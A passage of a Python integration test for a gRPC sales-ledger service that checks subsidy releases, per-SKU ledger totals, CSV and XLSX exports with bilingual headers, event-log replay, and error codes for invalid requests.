        ledger_pb2.ReleaseSubsidyRequest(order_id=sold[1], reason="REFUNDED")
    )
    await p.ledger.ReleaseSubsidy(
        ledger_pb2.ReleaseSubsidyRequest(order_id=cancelled, reason="CANCELLED")
    )

    async def settled() -> catalog_pb2.SalesLedger:
        got = await p.catalog.GetSalesLedger(catalog_pb2.GetSalesLedgerRequest(merchant_id=m))
        assert [
            (
                r.sku,
                r.sold_units,
                r.sales_fen,
                r.subsidy_fen,
                r.refunded_units,
                r.refunded_subsidy_fen,
                r.net_units,
                r.net_subsidy_fen,
            )
            for r in got.rows
        ] == sorted(
            [
                (fridge, 2, 2_400_000, 400_000, 1, 200_000, 1, 200_000),
                (phone, 1, 300_000, 45_000, 0, 0, 1, 45_000),
            ]
        )
        return got

    ledger = await eventually(settled)
    assert ledger.net_subsidy_fen == 245_000
    assert {(r.merchant_id, r.brand) for r in ledger.rows} == {(m, "美的")}

    export = await p.catalog.ExportSalesLedger(
        catalog_pb2.ExportSalesLedgerRequest(format="csv", merchant_id=m)
    )
    text = export.content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("商户编号 merchant_id,商品编码 sku,品类 category")
    assert f"{m},{fridge},refrigerator,美的" in lines[1] + lines[2]
    assert export.filename == "sales-ledger.csv"

    xlsx = await p.catalog.ExportSalesLedger(
        catalog_pb2.ExportSalesLedgerRequest(format="xlsx", merchant_id=m)
    )
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "商户编号 merchant_id"
    assert sorted(r[1] for r in rows[1:]) == sorted([fridge, phone])
    assert sum(int(r[12]) for r in rows[1:]) == 245_000

    # Drop the projection, replay the ledger's events from the log: the very same ledger.
    before_all = await p.catalog.ExportSalesLedger(
        catalog_pb2.ExportSalesLedgerRequest(format="csv")
    )
    runtime = p.running["catalog"].runtime
    replayed = await sales.rebuild(runtime.store, runtime.js)
    assert replayed >= 9
    after_all = await p.catalog.ExportSalesLedger(
        catalog_pb2.ExportSalesLedgerRequest(format="csv")
    )
    assert after_all.content == before_all.content
    assert after_all.content.count(b"\r\n") >= 3

    await refused(
        p,
        p.catalog.ExportSalesLedger(catalog_pb2.ExportSalesLedgerRequest(format="pdf")),
        INVALID,
        "INVALID_CHOICE",
        "format",
    )
    await refused(
        p,
        p.catalog.GetSalesLedger(catalog_pb2.GetSalesLedgerRequest(merchant_id="m-nobody")),
        grpc.StatusCode.NOT_FOUND,
        "UNKNOWN_MERCHANT",
        "merchant_id",
    )
